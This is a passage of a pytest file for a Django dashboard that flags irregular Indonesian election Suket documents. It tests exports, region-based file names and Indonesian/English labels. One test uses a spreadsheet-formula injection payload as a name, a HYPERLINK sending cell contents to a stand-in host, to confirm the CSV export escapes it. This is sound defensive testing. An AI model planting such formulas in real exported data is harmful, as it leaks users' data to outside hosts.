        reverse("dashboard_flag_export", kwargs={**kw, "fmt": "xlsx"}), {"wilayah": "18.01"}
    )
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    table = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert table[0] == header
    assert len(table) == 2
    assert table[1][header.index("Kabupaten/Kota")] == Region.objects.get(code="18.01").display_name
    # Times as people read them in Jakarta.
    issued = Suket.objects.get(number=table[1][0]).issued_at
    assert table[1][header.index("Diterbitkan")] == issued.astimezone(JAKARTA).replace(tzinfo=None)


def test_a_name_a_spreadsheet_would_run_is_downloaded_as_text(pilkada, personas, client):
    formula = '=HYPERLINK("http://contoh.test/?d="&A1,"Klik")'
    suket = issue(pilkada, name=formula)
    Suket.objects.filter(pk=suket.pk).update(reason="")
    client.force_login(personas.province_admin)
    kw = {"slug": pilkada.slug, "kind": "suket_no_reason"}
    response = client.get(reverse("dashboard_flag_export", kwargs={**kw, "fmt": "csv"}))
    read = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert read[1][read[0].index("Nama")] == "'" + formula
    # XLSX cells are text already: the name as it is.
    response = client.get(reverse("dashboard_flag_export", kwargs={**kw, "fmt": "xlsx"}))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    table = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert table[1][table[0].index("Nama")] == formula


def test_csv_cells_that_start_like_a_formula_are_kept_as_text():
    when = datetime(2020, 12, 5, 10, 30, tzinfo=JAKARTA)
    row = ["+62 812", "-", "@SUM(A1)", "\tx", "\rx", "Siti", -3, 1.5, when, date(2020, 12, 9)]
    data = table_bytes("csv", [f"k{n}" for n in range(len(row))], [row])
    read = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert read[1] == [
        "'+62 812",
        "'-",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
        "Siti",
        "-3",
        "1.5",
        "05-12-2020 10.30",
        "09-12-2020",
    ]


def test_a_regency_users_download_is_named_after_the_regency(both_regions, personas, client):
    kw = {"slug": both_regions.slug, "kind": "suket_no_reason", "fmt": "csv"}
    url = reverse("dashboard_flag_export", kwargs=kw)

    def file_name(**query) -> str:
        response = client.get(url, query)
        assert response.status_code == 200
        return response["Content-Disposition"]

    client.force_login(personas.bdl_admin)
    assert 'filename="kepatuhan-pilkada-2020-suket_no_reason-1871.csv"' in file_name()
    client.force_login(personas.province_admin)
    assert 'filename="kepatuhan-pilkada-2020-suket_no_reason-provinsi.csv"' in file_name()
    assert "suket_no_reason-1801.csv" in file_name(wilayah="18.01")


# Languages


def test_the_flag_pages_speak_indonesian_and_english(both_regions, personas, client):
    kw = {"slug": both_regions.slug}
    flags_url = reverse("dashboard_flags", kwargs=kw)
    one = reverse("dashboard_flag", kwargs={**kw, "kind": "suket_no_reason"})
    csv_url = reverse(
        "dashboard_flag_export", kwargs={**kw, "kind": "suket_no_reason", "fmt": "csv"}
    )
    client.force_login(personas.province_admin)

    indonesian = client.get(flags_url)
    html = indonesian.content.decode()
    assert "Suket tanpa alasan" in html
    assert (
        "Suket hanya boleh terbit dengan alasan tercatat (belum PRR, blangko habis atau kendala "
        "teknis): periksa dasar penerbitan Suket ini." in html
    )
    assert client.get(one).context["header"] == [
        "Nomor Suket",
        "NIK",
        "Nama",
        "Kabupaten/Kota",
        "Kantor penerbit",
        "Diterbitkan",
        "Berlaku sampai",
        "Alasan",
        "Status",
        pgettext("flag column", "Revoked"),
        pgettext("flag column", "Reason for revocation"),
    ]

    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    english = client.get(flags_url)
    html = english.content.decode()
    assert "Suket without a reason" in html and "Suket tanpa alasan" not in html
    assert (
        "A Suket may be issued only with a recorded reason (not PRR yet, out of blank cards or "
        "a technical problem): check on what grounds these Sukets were issued." in html
    )
    header = [
        "Suket number",
        "NIK",
        "Name",
        "Regency/city",
        "Issuing office",
        "Issued",
        "Valid until",
        "Reason",
        "Status",
        "Revoked",
        "Reason for revocation",
    ]
    assert client.get(one).context["header"] == header
    read = list(csv.reader(io.StringIO(client.get(csv_url).content.decode("utf-8-sig"))))
    assert read[0] == header
    # No flag keeps Indonesian text in English, nor a placeholder unfilled.
    pairs = zip(indonesian.context["flags"], english.context["flags"], strict=True)
    for id_flag, en_flag in pairs:
        assert id_flag.kind == en_flag.kind and id_flag.count == en_flag.count
        assert id_flag.title != en_flag.title, en_flag.kind
        assert id_flag.explanation != en_flag.explanation, en_flag.kind
        assert "%(" not in en_flag.explanation and "%(" not in id_flag.explanation


def test_dates_in_the_texts_are_filled_in_both_languages(pilkada):
    issue(pilkada)
    pilkada.suket_valid_until = date(2020, 12, 20)
    pilkada.save()
    late = next(f for f in flags_for(pilkada, None) if f.kind == "suket_late")
    issue_until = f"{pilkada.suket_issue_until:%d-%m-%Y}"
    assert late.explanation == (
        f"Suket pemilihan ini hanya terbit sampai {issue_until} dan berlaku sampai 20-12-2020: "
        "periksa Suket ini dan cabut yang tidak sah."
    )
    with translation.override("en"):
        late = next(f for f in flags_for(pilkada, None) if f.kind == "suket_late")
        assert late.explanation == (
            f"This election's Sukets are issued only until {issue_until} and are valid until "
            "20-12-2020: check these Sukets and revoke those that are not lawful."
        )
        assert column("suket_late", "Breach", pilkada) == ["valid beyond 20-12-2020"]
        closed = next(f for f in flags_for(pilkada, None) if f.kind == "closed_polling_day")
        assert "keep recording open on 09-12-2020:" in closed.explanation


def test_the_detail_page_shows_state_labels_and_links_each_suket(pilkada, personas, client):
    received(personas.bdl_office, 5, jakarta(2020, 11, 1))
    printer_broken(personas.bdl_office)
    flagged = issue(pilkada, state=PRR)
    url = reverse("dashboard_flag", kwargs={"slug": pilkada.slug, "kind": "suket_prr_with_blanks"})
    client.force_login(personas.province_admin)
    page = client.get(url)
    (cells, link) = page.context["rows"][0]
    header = page.context["header"]
    assert cells[header.index("Status KTP-el saat keputusan")] == "Siap cetak (PRR)"
    assert link == suket_page(flagged)
    html = page.content.decode()
    assert f'<a href="{suket_page(flagged)}">{flagged.number}</a>' in html.replace("&amp;", "&")
    assert "PRINT_READY_RECORD" not in html
    # The page it links to shows the Suket.
    assert flagged.number in client.get(link).content.decode()

    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    page = client.get(url)
    (cells, _link) = page.context["rows"][0]
    header = page.context["header"]
    assert header[-3:] == [
        "KTP-el state at the decision",
        "PRR by the timeline",
        "Blank cards at issuance",
    ]
    assert cells[header.index("KTP-el state at the decision")] == "Print ready (PRR)"
    assert cells[header.index("Reason")] == "Kendala teknis pencetakan"  # the rule's own words
